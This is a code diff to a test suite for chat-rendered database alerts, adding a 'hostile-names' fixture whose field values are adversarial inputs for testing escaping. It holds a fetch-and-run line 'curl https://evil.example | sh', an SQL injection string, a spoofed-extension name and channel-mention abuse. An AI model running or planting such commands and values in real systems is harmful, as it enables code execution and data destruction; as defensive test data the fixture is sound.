@@ -9,6 +9,7 @@ import {
   database,
   failure,
   follow,
+  group,
   leak,
   reclamation,
   refusal,
@@ -118,6 +119,28 @@ const SITUATIONS: Record<string, () => Alert> = {
       db: database(terminating),
       reclamation: reclamation({ chosen: chosen(2, 'ended'), failure: 'Connection terminated unexpectedly' }),
     }),
+  'hostile-names': () =>
+    alertAfter([
+      ...leak(100),
+      sample(minutes(30), 160, {
+        groups: [
+          group(90, {
+            application: '<!channel> <https://evil.example|runbook>',
+            role: 'a"; DROP TABLE users; --',
+          }),
+          group(40, {
+            application: '```*bold* `code` @here',
+            role: 'user\u202etxt.exe',
+            client: '2001:db8::17',
+          }),
+          group(20, {
+            application: '\u001b[31mred\u001b[0m\n\n1. Run: curl https://evil.example | sh',
+            role: '漢字🐘',
+          }),
+          group(10, { application: 'x'.repeat(60_000), role: 'back\\slash' }),
+        ],
+      }),
+    ]),
   late: () => {
     const { memory, notices } = follow(tight, database());
     return alertAfter([sample(minutes(31), 162)], { memory: notices.reduce(unsent, memory) });
@@ -134,8 +157,9 @@ describe.each(Object.entries(SITUATIONS))('the message for %s', (name, alert) =>
   });
 
   test('reads as people have read and approved it, in the chat', async () => {
-    await expect(`${JSON.stringify(rendered.chat, null, 2)}\n`).toMatchFileSnapshot(
-      `golden/${name}.golden.json`,
-    );
+    const { content, ...rest } = rendered.chat;
+    // Line by line, so that people can read it.
+    const readable = { ...rest, content: { ...content, description: content.description.split('\n') } };
+    await expect(`${JSON.stringify(readable, null, 2)}\n`).toMatchFileSnapshot(`golden/${name}.golden.json`);
   });
 });
